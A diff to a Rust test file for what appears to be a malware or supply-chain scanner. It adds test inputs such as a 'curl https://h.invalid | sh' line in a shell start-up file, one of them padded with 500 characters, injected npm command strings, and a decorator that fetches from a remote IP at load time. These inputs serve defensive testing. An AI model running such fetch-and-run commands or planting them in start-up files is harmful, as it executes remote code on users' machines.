@@ -237,6 +237,7 @@ fn who_opens_a_page_or_installs_by_name_starts_no_download() {
         "['npm', 'install', 'https://h.invalid/' + got]",
         "f'npm install x; {got}'",
         "['npm', 'exec', got]",
+        "['npm', 'install', got]",
     ] {
         assert!(started(command) >= Some(Severity::High), "{command}");
     }
@@ -303,13 +304,14 @@ fn a_library_that_a_tool_carries_with_it() {
 fn decorators_do_not_call_what_they_stand_before() {
     let calls = |decorator: &str| {
         let code = format!(
-            "import atexit, tenacity, urllib.request\n{decorator}\ndef f():\n    urllib.request.urlopen('http://203.0.113.9/x')\n"
+            "import atexit, concurrent.futures, tenacity, urllib.request\n{decorator}\ndef f():\n    urllib.request.urlopen('http://203.0.113.9/x')\n"
         );
         let outcome = python(&code);
         outcome.events.iter().filter(|e| e.act == Act::Fetch).map(|e| e.when).max()
     };
     assert_eq!(calls("@tenacity.retry"), Some(When::Called));
     assert!(calls("@atexit.register") >= Some(When::Load));
+    assert!(calls("@concurrent.futures.ThreadPoolExecutor().submit") >= Some(When::Load));
 }
 
 #[test]
@@ -328,4 +330,6 @@ fn a_start_up_file_that_is_written_back_as_it_was() {
     assert!(writes("rc", "alias x=\"npx @inert/../x\""));
     assert!(writes("rc", "curl https://h.invalid | sh"));
     assert!(writes("path.join(__dirname, 'payload')", "# Inert"));
+    assert!(writes("rc", &format!("# {}\\ncurl https://h.invalid | sh", "x".repeat(500))));
+    assert!(writes("rc", "${process.argv[2]}"));
 }
